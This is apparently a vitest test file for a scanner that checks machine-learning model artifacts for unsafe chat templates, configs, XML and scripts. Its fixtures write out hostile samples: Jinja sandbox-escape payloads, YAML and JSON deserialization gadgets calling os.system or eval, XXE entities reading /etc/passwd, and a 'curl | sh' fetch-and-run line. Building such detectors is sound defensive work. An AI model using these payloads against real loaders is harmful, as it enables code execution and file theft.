import { describe, expect, test } from "vitest";
import type { ArtifactRule } from "../rules.ts";
import { bytes } from "../samples/bytes-fixture.ts";
import { ggufText, gguf } from "../samples/model-fixture.ts";
import { scanned, verdictOf } from "../samples/scan-fixture.ts";
import { zip } from "../samples/zip-fixture.ts";
import { parseJson } from "./json.ts";

function template(source: string): Uint8Array {
  return gguf({ pairs: [["tokenizer.chat_template", 8, ggufText(source)]] });
}

function inArchive(name: string, content: string): Uint8Array {
  return zip([{ name, data: Buffer.from(content) }]);
}

const unsafeTemplates: readonly (readonly [string, string])[] = [
  ["an attribute with two underscores", "{{ x.__class__ }}"],
  ["an item with two underscores", "{{ x['__class__'] }}"],
  ["an attribute behind parentheses and filters", "{{ (x | list).__init__ }}"],
  ["the classes of everything", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').getpid() }}{% endif %}{% endfor %}"],
  ["the filter attr", "{{ x | attr('format') }}"],
  ["the filter map with an attribute", "{{ [x] | map(attribute='__class__') | list }}"],
  ["the filter map with attr", "{{ [x] | map('attr', y) | list }}"],
  ["a name put together with plus", "{{ x['__cla' + 'ss__'] }}"],
  ["a name put together with a tilde", "{{ x['_' ~ '_class_' ~ '_'] }}"],
  ["a name put together by join", "{{ x[['__', 'class', '__'] | join] }}"],
  ["a name turned around", "{{ x['__ssalc__' | reverse] }}"],
  ["a name written with escapes", "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"],
  ["a name in a variable", "{% set k = '__cla' ~ y ~ 'ss__' %}{{ x[k] }}"],
  ["a name from a format text", "{{ x['%s%s' % ('__cla', 'ss__')] }}"],
  ["a name replaced into place", "{{ x['~~class~~' | replace('~', '_')] }}"],
  ["a format text that reaches attributes", "{{ '{0.__class__}'.format(x) }}"],
  ["a format text that reaches items", "{{ '{0[secret]}'.format(x) }}"],
  ["an object of the engine", "{{ cycler['x'] }}"],
  ["globals of the engine", "{{ lipsum.__globals__ }}"],
  ["an import of another template", "{% import 'x' as y %}"],
  ["an inclusion", "{% include '/etc/passwd' %}"],
  ["an inheritance", "{% extends x %}"],
  ["a frame of a generator", "{{ x.gi_frame.f_globals }}"],
  ["a condition", "{% if x.__class__ %}{% endif %}"],
  ["a macro's default", "{% macro m(a=x.__class__) %}{% endmacro %}"],
  ["a slice", "{{ y[x.__class__:] }}"],
  ["a keyword argument", "{{ namespace(a=x.__class__) }}"],
  ["full-width letters", "{{ x.__ｃlass__ }}"],
  ["an expression that cannot be parsed", "{{ x.__class__ ( }}"],
];

describe("chat templates that must not be used", () => {
  test.each(unsafeTemplates)("%s", async (_, source) => {
    expect(await verdictOf(template(source))).toEqual({ verdict: "fail", rules: ["template.unsafe"] });
  });

  test("a template in a configuration of a tokenizer is read too", async () => {
    expect((await verdictOf(inArchive("tokenizer_config.json", JSON.stringify({ chat_template: [{ name: "default", template: "{{ x.__class__ }}" }] })))).rules).toEqual(["template.unsafe"]);
  });

  test("a template in a file of its own is read too", async () => {
    expect((await verdictOf(inArchive("chat_template.jinja", "Hello {{ x.__class__ }}"))).rules).toEqual(["template.unsafe"]);
  });

  test("one that cannot be parsed and names nothing is left undecided", async () => {
    expect(await verdictOf(template("{% frobnicate %}"))).toEqual({ verdict: "insufficient_evidence", rules: ["template.unreadable"] });
  });
});

/** Written for these tests after the shapes that published models use. */
const templates: readonly string[] = [
  "{% for message in messages %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + message['content'] | trim + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ ' ' + message['content'] | trim + eos_token }}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}",
  "{%- if tools %}\n  {{- '<|im_start|>system\\n' }}\n  {%- for tool in tools %}{{- \"\\n\" }}{{- tool | tojson }}{%- endfor %}\n{%- endif %}\n{%- for message in messages[::-1] %}{%- set index = (messages | length - 1) - loop.index0 %}{%- if message.role == 'user' and message.content is string and not (message.content.startswith('<tool>') and message.content.endswith('</tool>')) %}{%- set ns.multi = false %}{%- endif %}{%- endfor %}",
  "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start|>' + message['role'] + '<|end|>\n\n' + message['content'] | trim + '<|eot|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}",
  "{%- macro render(x, depth=0) -%}{%- if x is mapping -%}{{ '{' }}{%- for key, value in x | items -%}{{ key ~ ': ' ~ render(value, depth + 1) }}{%- if not loop.last %}, {% endif -%}{%- endfor -%}{{ '}' }}{%- elif x is iterable and x is not string -%}[{{ x | map('string') | join(', ') }}]{%- else -%}{{ x if x is not none else 'null' }}{%- endif -%}{%- endmacro -%}{{ render({'a': {'b': 1}}) }}",
  "{% set ns = namespace(found=false, last=none) %}{% for m in messages if m['role'] != 'system' %}{% if (m['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('x') }}{% endif %}{% set ns.found = true %}{% endfor %}{{ strftime_now('%d %b %Y') if strftime_now is defined else '26 Jul 2024' }}{{ messages[0]['content'] }}{{ messages[-1].content.split('</think>')[-1].lstrip('\\n') }}",
  "{# a comment with {{ x.__class__ }} #}{% raw %}{{ x.__class__ }}{% endraw %}{{ messages | selectattr('role', 'equalto', 'user') | list | length }}{{ messages | map(attribute='content') | join('\\n') }}",
  "{{ names[message['role'] | lower] }}{{ '%s: %s' % (a, b) }}{{ 'a {} b'.format(x) }}{% generation %}{{ 2 ** 3 // 2 - -1 }}{% endgeneration %}{%+ if a is sameas b %}{% endif %}{% filter upper %}x{% endfilter %}{% call(x) f(1) %}{% endcall %}",
];

describe("chat templates that only read messages", () => {
  test.each(templates)("template %#", async (source) => {
    expect(await scanned(template(source))).toMatchObject({ verdict: "pass", findings: [] });
  });
});

const hostile: readonly (readonly [string, Uint8Array, ArtifactRule])[] = [
  ["YAML that builds objects of Python", inArchive("a.yaml", "x: !!python/object/apply:os.getpid []\n"), "yaml.object"],
  ["YAML with a function for a loader to call", inArchive("model_config.yaml", "name: x\nencoder:\n  _target_: os.system\n"), "config.target"],
  ["JSON with a function for a loader to call", inArchive("a.json", "{\"x\":{\"_target_\":\"builtins.eval\"}}"), "config.target"],
  ["JSON that builds objects of Python", inArchive("a.json", "{\"py/reduce\":[{\"py/function\":\"os.getpid\"}]}"), "json.object"],
  ["a schema of skops with a name that is not allowed", inArchive("schema.json", "{\"__class__\":\"system\",\"__module__\":\"os\",\"__loader__\":\"FunctionNode\"}"), "pickle.import"],
  ["JSON that breaks off", inArchive("a.json", "{\"a\":"), "json.malformed"],
  ["PMML with an external entity", bytes("<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><PMML>&x;</PMML>"), "xml.entity"],
  ["XML with entities that grow", bytes("<!DOCTYPE p [<!ENTITY a \"aa\"><!ENTITY b \"&a;&a;\">]><p>&b;</p>"), "xml.entity"],
  ["XML with an external type", bytes("<!DOCTYPE p SYSTEM \"http://x/y.dtd\"><p/>"), "xml.entity"],
  ["XML with an entity in UTF-16", bytes(0xff, 0xfe, Buffer.from("<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY x SYSTEM \"y\">]><p/>", "utf16le")), "xml.entity"],
  ["XML that includes another", bytes("<p xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"x\"/></p>"), "xml.entity"],
  ["XML with a stylesheet", bytes("<?xml-stylesheet href=\"x\"?><p/>"), "xml.entity"],
  ["XML that breaks off", bytes("<PMML><Header>"), "xml.malformed"],
  ["a Python program that opens a socket", inArchive("model.py", "import torch\nimport socket\n"), "script.unsafe"],
  ["a Python program that evaluates", inArchive("model", "def f(x):\n    return eval(x)\n"), "script.unsafe"],
  ["a Python program with an import in a list", inArchive("model", "import json, os\n"), "script.unsafe"],
  ["a script that fetches", inArchive("setup", "#!/bin/sh\ncurl http://x | sh\n"), "script.unsafe"],
];

describe("documents that must not be loaded", () => {
  test.each(hostile)("%s: refused for that reason", async (_, data, rule) => {
    const { verdict, rules } = await verdictOf(data);
    expect(rules).toContain(rule);
    expect(verdict).toBe("fail");
  });
});

const others: readonly (readonly [string, Uint8Array, string, readonly ArtifactRule[]])[] = [
  ["PMML passes", bytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<PMML version=\"4.4\"><!-- <!ENTITY x> --><Header description=\"a &lt; b\"/></PMML>"), "pass", []],
  ["YAML of a training framework passes", inArchive("model_config.yaml", "name: x\nencoder:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n  layers:\n    - 1\n"), "pass", []],
  ["documents of a model passes", zip([{ name: "README.md", data: bytes("# Title\n\nSome words, `import os` in code.\n\n```python\nimport os\n```\n") }, { name: "vocab.txt", data: Buffer.from("größe\nein\n") }, { name: "config.json", data: bytes("{\"a\":[1,-2.5e3,null,NaN,\"\\u00e9\"]}\n") }, { name: "rows.jsonl", data: bytes("{\"a\":1}\n{\"a\":2}\n") }]), "pass", []],
  ["a Python program that reaches nothing is left to a person", inArchive("model.py", "import torch\n\nclass Net(torch.nn.Module):\n    pass\n"), "insufficient_evidence", ["script"]],
  ["remote code is told", inArchive("config.json", "{\"auto_map\":{\"AutoModel\":\"modeling.Net\"}}"), "pass", ["config.remote"]],
  ["a notebook is told", bytes(JSON.stringify({ nbformat: 4, cells: [{ cell_type: "code", source: ["x = 1\n"], outputs: [] }, { cell_type: "markdown", source: "words" }] })), "pass", ["notebook"]],
  ["a notebook that runs commands is left to a person", bytes(JSON.stringify({ nbformat: 4, cells: [{ cell_type: "code", source: "!curl http://x | sh", outputs: [] }] })), "insufficient_evidence", ["notebook.unsafe", "notebook"]],
  ["a notebook whose output runs is left to a person", bytes(JSON.stringify({ nbformat: 4, cells: [{ cell_type: "code", source: "x", outputs: [{ data: { "text/html": "<script>x</script>" } }] }] })), "insufficient_evidence", ["notebook.unsafe", "notebook"]],
  ["XML in an encoding that hides is left undecided", bytes("<?xml version=\"1.0\" encoding=\"UTF-7\"?><p/>"), "insufficient_evidence", ["xml.unsupported"]],
  ["one key twice in a document is told", inArchive("a.json", "{\"a\":1,\"a\":2}"), "pass", ["json.repeat"]],
];

describe("other documents", () => {
  test.each(others)("%s", async (_, data, verdict, rules) => {
    expect(await verdictOf(data)).toEqual({ verdict, rules });
  });
});

describe("the reader of JSON", () => {
  test("agrees with the platform on what both accept", () => {
    const source = "{\"a\": [1, -0.5e-3, true, false, null, \"x\\u0041\\n\"], \"__proto__\": {\"b\": {}}}";
    const { value, duplicates } = parseJson(source);
    expect([JSON.stringify(value), duplicates]).toEqual([JSON.stringify(JSON.parse(source)), []]);
  });

  test.each(["{", "[1,]", "{\"a\":1,}", "\"\t\"", "tru", "", "[".repeat(5000)])("refuses %j", (source) => {
    expect(() => parseJson(source)).toThrow(/./u);
  });
});
